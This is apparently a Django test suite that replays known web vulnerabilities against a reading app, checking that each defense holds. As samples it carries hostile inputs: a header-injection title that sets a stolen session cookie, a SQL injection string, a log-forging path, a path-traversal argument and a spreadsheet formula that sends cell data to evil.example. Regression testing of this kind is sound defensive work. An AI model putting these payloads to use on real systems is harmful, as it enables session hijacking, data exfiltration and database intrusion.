"""What is asked of the site, and what its answers give away: headers, caches, errors, logs, exports, the database."""

from __future__ import annotations

import base64
import json
import logging
import os
from io import StringIO
from typing import TYPE_CHECKING, Any

import pytest
from asgiref.sync import async_to_sync
from django.conf import settings
from django.db import connection
from django.db.models import BooleanField
from django.db.models.expressions import RawSQL
from django.test import override_settings
from django.urls import include, path, reverse

from accounts.keys import create_key
from accounts.sealing import Sealed
from accounts.tests.keyrings import OLD
from providers.interfaces.speech import SpeechRequest
from providers.services.espeak.speech import ESpeak
from telemetry.logs import Line
from vividpages.asgi import application
from vividpages.tests.replays.house import EVIL, SECRET, found, shown
from vividpages.tests.replays.ownership import edition_of
from vividpages.tests.replays.replay import CALIBRE_WEB, DJANGO, code, cve, replay, setting
from vividpages.tests.sockets import PageSocket
from web.money.tests.books import add_call

if TYPE_CHECKING:
    from collections.abc import Sequence

    from django.http import HttpRequest, HttpResponse

    from vividpages.tests.replays.house import House

FORMULA = '=HYPERLINK("https://evil.example/"&A1)'


@replay(
    "CVE-2026-27810",
    "calibre",
    "What a request said went into the headers of the answer, line ends and all.",
    source="https://osv.dev/vulnerability/CVE-2026-27810",
    refusal="Names of files are made of letters, digits and hyphens; and no header takes a line end.",
    guard=code("publishing.services.links.slugify", str)
    & code("django.http.response.ResponseHeaders._convert_to_charset", lambda _self, value, *_, **__: str(value)),
)
def header_by_a_title(house: House) -> str:
    edition = edition_of(house.book(title="x\r\nSet-Cookie: sessionid=stolen"))
    answer = house.browser(house.reader).get(reverse("edition_file", args=[edition.vividpage_id, edition.pk]))
    return "".join(value for value in answer.headers.values() if "\n" in value)


@replay(
    "CVE-2022-36359",
    "Django",
    "The name of a download could end its quotation marks, and give the file another name and kind.",
    source=DJANGO,
    refusal="Names of files are made of letters, digits and hyphens, with the ending of their kind.",
    guard=code("publishing.services.links.slugify", str),
)
def name_of_a_download(house: House) -> str:
    edition = edition_of(house.book(title='x.bat";y="'))
    answer = house.browser(house.reader).get(reverse("edition_file", args=[edition.vividpage_id, edition.pk]))
    named = answer.headers["Content-Disposition"]
    return named if "x.bat" in named else ""


@replay(
    "CVE-2014-1418",
    "Django",
    "Answers for one reader could be kept by a cache on the way, and served to others.",
    source=DJANGO,
    refusal="Unless a view says something else, no answer is kept by anybody.",
    guard=setting("MIDDLEWARE", [one for one in settings.MIDDLEWARE if one != "web.middleware.NotKept"]),
)
def page_in_a_cache(house: House) -> str:
    house.book()
    answer = house.browser(house.reader).get(reverse("bookcase"))
    return "" if "no-store" in answer.headers.get("Cache-Control", "") else found(SECRET, answer)


@replay(
    "CVE-2016-9014",
    "Django",
    "A name that had come to lead to the server opened it for the pages of that name (DNS rebinding).",
    source=DJANGO,
    refusal="Requests for a host that is not named in ALLOWED_HOSTS are refused, whether or not errors are shown.",
    guard=setting("ALLOWED_HOSTS", ["*"]),
)
def name_that_leads_here(house: House) -> str:
    host = EVIL.removeprefix("https://")
    answer = house.browser().get(reverse("home"), headers={"Host": host})
    return "" if answer.status_code == 400 else "the site answers to another name"


@replay(
    "CVE-2019-13209",
    "Rancher",
    "A page of another site could open a WebSocket with the cookies of whoever looked at it.",
    source=cve("CVE-2019-13209"),
    refusal="A WebSocket is opened by pages of this site alone, to the port; others are closed before they are heard.",
    guard=code("vividpages.origins._is_own", lambda _: True),
)
def socket_of_another_site(house: House) -> str:
    headers = [(b"host", b"localhost"), (b"origin", EVIL.encode())]

    async def is_let_in() -> bool:
        page = PageSocket(application, "/ws/bell/", headers)
        let_in = await page.connect()
        await page.disconnect()
        return let_in

    return "the socket is open" if async_to_sync(is_let_in)() else ""


def breaks(request: HttpRequest) -> HttpResponse:
    """Break, with a secret at hand."""
    raise ValueError(SECRET)


urlpatterns = [path("breaks/", breaks), path("", include("web.urls"))]
handler500 = "vividpages.errors.server_error"


@replay(
    "CVE-2017-12794",
    "Django",
    "The page of an error showed what was at hand when it came about, also as markup.",
    source=DJANGO,
    refusal="The page of an error says that something went wrong, and nothing of what.",
    guard=setting("DEBUG", True),
)
def page_of_an_error(house: House) -> str:
    with override_settings(ROOT_URLCONF=__name__):
        answer = house.browser().get("/breaks/")
    assert answer.status_code == 500
    return found(SECRET, answer)


def logged_as_it_is(message: str, *args: Any, **_: Any) -> None:
    """Log what a stranger has written."""
    logging.getLogger("django.request").warning(message, *args)


@replay(
    "CVE-2025-48432",
    "Django",
    "Line ends in an address went into the log, where they began lines of the attacker's own.",
    source=DJANGO,
    refusal="Addresses are escaped before they are logged.",
    guard=code("django.core.handlers.base.log_response", logged_as_it_is),
)
def line_in_the_log(house: House) -> str:
    written = StringIO()
    handler = logging.StreamHandler(written)
    handler.setFormatter(Line("{levelname} {name}: {message}", style="{"))
    logger = logging.getLogger("django.request")
    logger.addHandler(handler)
    try:
        house.browser().get("/nowhere/%0aINFO accounts: ann has signed in")
    finally:
        logger.removeHandler(handler)
    assert "/nowhere/" in written.getvalue()
    return "".join(line for line in written.getvalue().splitlines() if line.startswith("INFO accounts"))


@replay(
    "CVE-2024-24337",
    "Koha",
    "Cells of an export began as formulas do, and spreadsheets ran them.",
    source=cve("CVE-2024-24337"),
    refusal="A cell that a spreadsheet would take for a formula begins with an apostrophe.",
    guard=code("web.money.views.defused", str),
)
def formula_in_an_export(house: House) -> str:
    book = house.book()
    add_call(book, label=FORMULA)
    answer = house.browser(house.reader).get(reverse("book_ledger_csv", args=[book.pk]))
    cells = shown(answer).replace('""', '"')
    assert FORMULA in cells
    return "" if f"'{FORMULA}" in cells else FORMULA


@replay(
    "0.6.20",
    "Calibre-Web",
    "Passwords for other services stood in the database as they were.",
    source=CALIBRE_WEB,
    refusal="Keys are sealed to their row and reader; the key of the seal is not in the database.",
    guard=code("accounts.sealing.Keyring.seal", lambda _self, secret, _: Sealed("k", secret.encode())),
)
def key_in_the_database(house: House) -> str:
    with override_settings(KEY_ENCRYPTION_KEYS=OLD):
        create_key(owner=house.reader, service="openai", secret=SECRET)
    with connection.cursor() as cursor:
        cursor.execute("SELECT encode(sealed, 'escape') || row_to_json(k)::text FROM accounts_apikey k")
        return SECRET if any(SECRET in row for (row,) in cursor.fetchall()) else ""


def joined_with_sql(by: Sequence[str], values: Sequence[Any]) -> RawSQL:
    """Write a cursor into a query as text."""
    return RawSQL(f"books_vividpage.{by[0].removeprefix('-')} < '{values[0]}'", (), output_field=BooleanField())


@replay(
    "CVE-2022-30765",
    "Calibre-Web",
    "What was asked of the list of users became a part of the query.",
    source=CALIBRE_WEB,
    refusal="Lists have an order of their own; where one goes on is a value beside the query, never a part of it.",
    guard=code("api.core.paging._behind", joined_with_sql),
)
def cursor_of_sql(house: House) -> str:
    house.book()
    values = ["2000-01-01') OR ('a'='a", str(house.stranger.pk)]
    cursor = base64.urlsafe_b64encode(json.dumps(values).encode()).decode().rstrip("=")
    return found(SECRET, house.program(house.stranger).get("/api/v1/vividpages", {"cursor": cursor}))


@replay(
    "CVE-2025-6998",
    "Calibre-Web",
    "A name of very many blanks kept a pattern busy for minutes before it was refused.",
    source=cve("CVE-2025-6998"),
    refusal="What is typed is cut to its longest before any pattern looks at it.",
    guard=code("characters.search.query.LONGEST", 10**9),
)
def words_without_end(house: House) -> str:
    house.book()
    typed = "mill " * 1_000
    answer = house.browser(house.reader).get(reverse("search"), {"q": typed})
    return "all of it was looked at" if shown(answer).count("mill mill") > 100 else ""


@replay(
    "CVE-2023-49096",
    "Jellyfin",
    "A parameter of a request became an argument of ffmpeg, and with it another argument.",
    source="https://osv.dev/vulnerability/CVE-2023-49096",
    refusal="Programs are started without a shell; a language is one that the program has listed, or English.",
    guard=code("providers.services.espeak.speech.language_known", str),
)
def argument_of_a_program(house: House) -> str:
    program = house.folder / "espeak-ng"
    program.write_text('#!/bin/sh\nprintf "RIFF"\nprintf "%s\\n" "$@"\n')
    program.chmod(0o755)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PATH", f"{house.folder}:{os.environ['PATH']}")
        heard = ESpeak().speak(SpeechRequest("Ann", "woman", "../../evil")).data.decode()
    assert "--stdin" in heard
    return "../../evil" if "../../evil" in heard else ""
